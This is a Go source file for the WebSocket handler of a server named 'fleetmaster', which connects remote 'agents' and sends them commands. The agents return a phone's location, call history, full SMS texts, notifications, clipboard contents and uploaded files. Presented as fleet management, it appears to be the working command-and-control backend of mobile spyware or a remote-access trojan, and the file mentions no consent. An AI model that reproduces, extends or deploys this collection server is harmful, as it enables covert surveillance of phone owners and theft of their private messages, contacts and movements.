package main

import (
	"context"
	"encoding/json"
	"net/http"
	"time"

	"github.com/gorilla/websocket"

	"fleetmaster/fleet"
	"fleetmaster/storage"
	wscommon "fleetmaster/ws"
)

const (
	wsWriteTimeout = 10 * time.Second
	wsPingInterval = 25 * time.Second
	wsReadTimeout  = 60 * time.Second
)

// agentTransport adapts a WebSocket connection to the fleet transport
// interface: commands go out as "command" messages.
type agentTransport struct {
	conn *wscommon.Conn
}

func (t *agentTransport) SendCommand(payload map[string]interface{}) error {
	msg := &wscommon.Message{
		Type: wscommon.MessageTypeCommand,
		Data: payload,
	}
	return t.conn.WriteMessage(msg, wsWriteTimeout)
}

func (t *agentTransport) Close() error {
	return t.conn.Close()
}

// handleAgentWebSocket handles WebSocket connections from agents. The agent
// identifies itself with an "id" query parameter and may carry its device
// properties as JSON in "info".
func handleAgentWebSocket(w http.ResponseWriter, r *http.Request, manager *fleet.Manager) {
	clientID := r.URL.Query().Get("id")
	if clientID == "" {
		http.Error(w, "Missing client id", http.StatusBadRequest)
		return
	}

	var dynamicData map[string]interface{}
	if info := r.URL.Query().Get("info"); info != "" {
		if err := json.Unmarshal([]byte(info), &dynamicData); err != nil {
			logWarn("Invalid device info in connect", "client_id", clientID, "error", err)
			http.Error(w, "Invalid device info", http.StatusBadRequest)
			return
		}
	}

	conn, err := wscommon.UpgradeHTTP(w, r)
	if err != nil {
		logError("WebSocket upgrade failed", "client_id", clientID, "error", err)
		return
	}

	logInfo("Agent WebSocket connected", "client_id", clientID, "remote_addr", r.RemoteAddr)

	transport := &agentTransport{conn: conn}
	if err := manager.Connect(r.Context(), clientID, transport, dynamicData); err != nil {
		logError("Failed to register agent connection", "client_id", clientID, "error", err)
		conn.Close()
		return
	}

	// Server-side ping loop to surface half-open TCP connections early. A
	// failed ping closes the connection, which unblocks the read loop below.
	pingDone := make(chan struct{})
	go func() {
		pingTicker := time.NewTicker(wsPingInterval)
		defer pingTicker.Stop()
		for {
			select {
			case <-pingTicker.C:
				if err := conn.WritePing(wsWriteTimeout); err != nil {
					logWarn("WebSocket ping failed, closing connection", "client_id", clientID, "error", err)
					conn.Close()
					return
				}
			case <-pingDone:
				return
			}
		}
	}()

	defer func() {
		close(pingDone)
		conn.Close()
		// A connection replaced by a newer one lands on the suppressed
		// disconnect path inside the manager.
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := manager.Disconnect(ctx, clientID); err != nil {
			logWarn("Failed to record disconnect", "client_id", clientID, "error", err)
		}
	}()

	conn.SetReadDeadline(time.Now().Add(wsReadTimeout))
	conn.SetPongHandler(func(string) error {
		conn.SetReadDeadline(time.Now().Add(wsReadTimeout))
		return nil
	})

	for {
		raw, err := conn.ReadMessage()
		if err != nil {
			if wscommon.IsUnexpectedCloseError(err, websocket.CloseGoingAway, websocket.CloseNormalClosure) {
				logWarn("WebSocket error", "client_id", clientID, "error", err)
			}
			break
		}
		conn.SetReadDeadline(time.Now().Add(wsReadTimeout))

		logTrace("WebSocket raw message received", "client_id", clientID, "len", len(raw))

		var msg wscommon.Message
		if err := json.Unmarshal(raw, &msg); err != nil {
			logWarn("Failed to parse WebSocket message", "client_id", clientID, "error", err)
			sendWSError(conn, "Invalid message format")
			continue
		}

		handleAgentMessage(conn, manager, clientID, msg)
	}
}

func handleAgentMessage(conn *wscommon.Conn, manager *fleet.Manager, clientID string, msg wscommon.Message) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	switch msg.Type {
	case wscommon.MessageTypeHeartbeat:
		pong := &wscommon.Message{Type: wscommon.MessageTypePong}
		if err := conn.WriteMessage(pong, wsWriteTimeout); err != nil {
			logWarn("Failed to send pong", "client_id", clientID, "error", err)
		}

	case wscommon.MessageTypeUpload:
		ev := fleet.UploadEvent{
			Name:     wsStringField(msg.Data, "name"),
			Inline:   wsStringField(msg.Data, "buffer"),
			HasImage: wsBoolField(msg.Data, "image"),
		}
		if err := manager.HandleUpload(ctx, clientID, ev); err != nil {
			logError("Failed to ingest upload", "client_id", clientID, "name", ev.Name, "error", err)
			sendWSError(conn, "Failed to process upload")
		}

	case wscommon.MessageTypeLocation:
		sample := &storage.LocationSample{
			Latitude:  wsFloatField(msg.Data, "latitude"),
			Longitude: wsFloatField(msg.Data, "longitude"),
			Accuracy:  wsFloatField(msg.Data, "accuracy"),
			Date:      wsTimeField(msg.Data, "date"),
		}
		if err := manager.IngestLocation(ctx, clientID, sample); err != nil {
			logError("Failed to ingest location", "client_id", clientID, "error", err)
		}

	case wscommon.MessageTypeCall:
		entry := &storage.CallEntry{
			PhoneNo:   wsStringField(msg.Data, "phoneNo"),
			Name:      wsStringField(msg.Data, "name"),
			Direction: wsStringField(msg.Data, "direction"),
			Duration:  int(wsFloatField(msg.Data, "duration")),
			Date:      wsTimeField(msg.Data, "date"),
		}
		if err := manager.IngestCall(ctx, clientID, entry); err != nil {
			logError("Failed to ingest call entry", "client_id", clientID, "error", err)
		}

	case wscommon.MessageTypeSMS:
		entry := &storage.SMSEntry{
			Address: wsStringField(msg.Data, "address"),
			Body:    wsStringField(msg.Data, "body"),
			Date:    wsTimeField(msg.Data, "date"),
		}
		if err := manager.IngestSMS(ctx, clientID, entry); err != nil {
			logError("Failed to ingest sms entry", "client_id", clientID, "error", err)
		}

	case wscommon.MessageTypeNotification:
		entry := &storage.NotificationEntry{
			AppName:  wsStringField(msg.Data, "appName"),
			Title:    wsStringField(msg.Data, "title"),
			Content:  wsStringField(msg.Data, "content"),
			PostTime: wsTimeField(msg.Data, "postTime"),
		}
		if err := manager.IngestNotification(ctx, clientID, entry); err != nil {
			logError("Failed to ingest notification", "client_id", clientID, "error", err)
		}

	case wscommon.MessageTypeClipboard:
		entry := &storage.ClipboardEntry{
			Content: wsStringField(msg.Data, "content"),
			Time:    wsTimeField(msg.Data, "time"),
		}
		if err := manager.IngestClipboard(ctx, clientID, entry); err != nil {
			logError("Failed to ingest clipboard entry", "client_id", clientID, "error", err)
		}

	case wscommon.MessageTypeSnapshot:
		section := wsStringField(msg.Data, "section")
		data, err := json.Marshal(msg.Data["data"])
		if err != nil {
			logWarn("Unencodable snapshot payload", "client_id", clientID, "section", section, "error", err)
			sendWSError(conn, "Invalid snapshot payload")
			return
		}
		if err := manager.IngestSnapshot(ctx, clientID, section, data); err != nil {
			logError("Failed to ingest snapshot", "client_id", clientID, "section", section, "error", err)
			sendWSError(conn, "Failed to process snapshot")
		}

	default:
		logWarn("Unknown WebSocket message type", "client_id", clientID, "message_type", msg.Type)
		sendWSError(conn, "Unknown message type")
	}
}

func sendWSError(conn *wscommon.Conn, errMsg string) {
	msg := &wscommon.Message{
		Type: wscommon.MessageTypeError,
		Data: map[string]interface{}{"error": errMsg},
	}
	if err := conn.WriteMessage(msg, wsWriteTimeout); err != nil {
		logDebug("Failed to send error message", "error", err)
	}
}

func wsStringField(data map[string]interface{}, key string) string {
	if v, ok := data[key].(string); ok {
		return v
	}
	return ""
}

func wsBoolField(data map[string]interface{}, key string) bool {
	if v, ok := data[key].(bool); ok {
		return v
	}
	return false
}

func wsFloatField(data map[string]interface{}, key string) float64 {
	if v, ok := data[key].(float64); ok {
		return v
	}
	return 0
}

// wsTimeField parses an epoch-milliseconds field, defaulting to now.
func wsTimeField(data map[string]interface{}, key string) time.Time {
	if v, ok := data[key].(float64); ok && v > 0 {
		return time.UnixMilli(int64(v))
	}
	return time.Now()
}
